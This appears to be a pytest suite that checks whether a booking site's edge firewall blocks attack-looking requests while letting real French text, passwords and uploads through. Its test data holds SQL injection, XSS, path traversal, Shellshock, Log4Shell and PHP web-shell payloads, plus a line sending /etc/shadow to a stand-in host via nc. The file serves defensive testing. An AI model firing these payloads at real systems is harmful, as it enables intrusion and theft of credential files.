"""What looks like an attack is refused at the edge; what people write and sign in with reaches the application."""

import json
import re
from datetime import UTC, datetime, timedelta
from html import escape
from pathlib import Path

import pytest
from tests.deploy import cluster as clusters
from tests.deploy.places import one_site

_LETTERS = Path(__file__).parents[1] / "data/letters/french.jsonl"
_JSON = ("-H", "Content-Type: application/json", "-X", "POST", "--data-binary")
_EACH = 5  #: of the letters one is sent, since one address may not ask for much more in a minute

#: Where it goes, below the page of a host, and how.
_ATTACKS = {
    "a statement in the address": ("?tz=Europe/Paris%27%20OR%20%271%27=%271", ()),
    "a script in the address": ("?tz=%3Cscript%3Ealert(1)%3C/script%3E", ()),
    "a path in the address": ("?day=../../../../etc/passwd", ()),
    "a command in the address": ("?day=1;cat%20/etc/passwd", ()),
    "a statement in a form": ("", ("--data-urlencode", "email=a@b.example' UNION SELECT password FROM users--")),
    "a script in what people write": ("", ("--data-urlencode", "question_1=<script>alert(1)</script>")),
    "a statement in JSON": ("", (*_JSON, json.dumps({"page_id": "1' OR '1'='1' --"}))),
    "a lookup in the address": ("?tz=%24%7Bjndi:ldap://192.0.2.1/a%7D", ()),
    "a command in a header": ("", ("-A", "() { :;}; /bin/cat /etc/passwd")),
    "a known scanner": ("", ("-A", "sqlmap/1.7")),
    "a verb that is not served": ("", ("-X", "TRACK")),
}
_WRITTEN = (
    "Je préfère l'après-midi ; l'idéal serait « 14 h » ou \"15 h\", d'accord ?",
    "L'union fait la force: 'oui' ou 'non'",
    "10' d'attente OR 20' -- select another time from the list; drop me a line /* merci */",
    "cat, ls; id | wc; echo bonjour",
    "C:\\Users\\moi\\rapport.pdf et ../rapport.pdf, voir http://192.0.2.5:8080/visio",
    "$(date) ${HOME} {{prenom}} {% raw %} `id`",
    "<!-- a signature -->",
)

#: What is noted about an attack.
_NOTED = (
    "' OR 1=1 --",
    "/etc/passwd",
    "x'; DROP TABLE users; -- and then cat /etc/shadow | nc 192.0.2.1 80",
    "<script>alert(1)</script>",
    '192.0.2.1 - - "GET /../../etc/passwd HTTP/1.1" 200',
    "From: a@b.example\nContent-Type: text/html\nSet-Cookie: a=b",
    "${jndi:ldap://192.0.2.1/a} java.lang.Runtime.getRuntime().exec",
    'document.cookie="PHPSESSID=1";domain=x',
    "<?php system($_GET['c']); ?>",
)
_ATTACKED = "The attacker sent ' OR 1=1 -- and <script>alert(1)</script>"
_OFFICE = "office/security/registers/incident/add/"


@pytest.fixture(scope="module", name="cluster")
def _cluster(tmp_path_factory):
    with clusters.running(one_site(), tmp_path_factory.mktemp("edge")) as found:
        yield found


@pytest.fixture(name="page")
def _page(cluster):
    return f"/{cluster.practice['slug']}/{cluster.practice['doors'][0]['slug']}/"


def say(words: str) -> None:
    print(f"\n  {words}", end="", flush=True)  # noqa: T201  # figures are asked for


def test_a_booking_with_quotes_is_taken(cluster):
    door = cluster.practice["doors"][0]
    start = datetime.now(UTC).replace(hour=9, minute=0, second=0, microsecond=0) + timedelta(days=2)
    guest = {"name": "Hélène d'Arc \"L'Étoile\"", "email": "o'brien@guest.example", "time_zone": "Europe/Paris"}
    body = {"page_id": door["page"], "start": f"{start:%Y-%m-%dT%H:%M:%SZ}", "guest": guest}
    words = ("-H", f"Authorization: Bearer {door['token']}", *_JSON, json.dumps(body))

    assert cluster.send(f"/{cluster.practice['slug']}/api/v1/bookings", *words) == (201, True)


@pytest.mark.parametrize("name", _ATTACKS)
def test_an_attack_does_not_reach_the_application(cluster, page, name):
    query, words = _ATTACKS[name]

    assert cluster.send(page + query, *words) == (403, False)


def test_what_people_write_reaches_the_application(cluster, page):
    letters = [json.loads(line)["body"] for line in _LETTERS.read_text().splitlines()[::_EACH]]
    texts = [*letters, *_WRITTEN]
    refused = [
        text[:80]
        for text in texts
        if not cluster.send(page, "--limit-rate", "1M", "--data-urlencode", f"question_1={text}")[1]
    ]
    say(f"{len(texts)} texts, of which {len(letters)} letters, {len(refused)} of them refused")

    assert not refused


@pytest.mark.parametrize("text", _NOTED)
@pytest.mark.parametrize("field", ["what", "taken", "likelihood_steps-5-name-en"])
def test_what_is_noted_about_an_attack_reaches_the_security_office_and_no_other_page(cluster, page, field, text):
    words = ("--data-urlencode", f"{field}={text}")

    assert cluster.send(f"/{cluster.practice['slug']}/{_OFFICE}", *words)[1]
    assert cluster.send(page, *words) == (403, False)


def test_an_officer_saves_an_incident_whose_words_are_attacks_and_reads_them_again(cluster, page):
    office = cluster.practice["officer"]
    signed_in = ("-b", office["cookie"], "-H", f"Referer: https://{cluster.place.inventory.host}/")
    said = {"title": _ATTACKED, **dict.fromkeys(("what", "taken", "indicators"), "\n".join((_ATTACKED, *_NOTED)))}

    form = cluster.read(f"/{office['slug']}/{_OFFICE}", *signed_in)
    told = said | {"noticed": f"{datetime.now(UTC):%Y-%m-%d}", "severity": "high", "visibility": "internal"}
    told["csrfmiddlewaretoken"] = re.search(r'name="csrfmiddlewaretoken" value="(\w+)"', form)[1]
    fields = [word for name, value in told.items() for word in ("--data-urlencode", f"{name}={value}")]
    entry, _end, where = cluster.read(f"/{office['slug']}/{_OFFICE}", *signed_in, *fields).rpartition("\n")

    assert re.fullmatch(rf"200 https://.*/{office['slug']}/office/security/registers/incident/\d+/", where)
    assert [text for text in (_ATTACKED, *_NOTED) if escape(text.partition("\n")[0]) not in entry] == []
    assert "<script>alert" not in entry
    for name, value in said.items():
        assert cluster.send(page, "--data-urlencode", f"{name}={value}") == (403, False)


@pytest.mark.parametrize(
    ("path", "words"),
    [
        ("?day=../../../../etc/passwd", ()),
        ("", ("-A", "() { :;}; /bin/cat /etc/passwd")),
        ("", ("-A", "sqlmap/1.7")),
        ("", ("-b", "seen=' UNION SELECT password FROM users--")),
        ("", ("--data", "a%27%20OR%201%3D1%20--=x")),
        ("../../../../{page}", ("--path-as-is", "--data-urlencode", "what=/etc/passwd")),
        ("%2e%2e/%2e%2e/%2e%2e/%2e%2e/{page}", ("--path-as-is", "--data-urlencode", "what=/etc/passwd")),
    ],
)
def test_nothing_but_what_is_written_passes_in_the_security_office(cluster, page, path, words):
    office = f"/{cluster.practice['slug']}/{_OFFICE}"

    assert cluster.send(office + path.format(page=page.strip("/")), *words) == (403, False)


@pytest.mark.parametrize("field", ["password=' OR 1=1 -- <script>", "password=${jndi:x};cat /etc/passwd"])
def test_any_password_reaches_the_application(cluster, field):
    words = ("--data-urlencode", "login=host@practice.example", "--data-urlencode", field)

    assert cluster.send(f"/{cluster.practice['slug']}/account/login/", *words)[1]


def test_an_upload_reaches_the_application_by_any_name(cluster, page, tmp_path):
    file = tmp_path / "Capture d'écran; « été ».png"
    file.write_bytes(b"\x89PNG\r\n\x1a\n' OR '1'='1" + bytes(range(256)) * 2000)

    assert cluster.send(page, "-F", f'logo=@"{file}";type=image/png')[1]
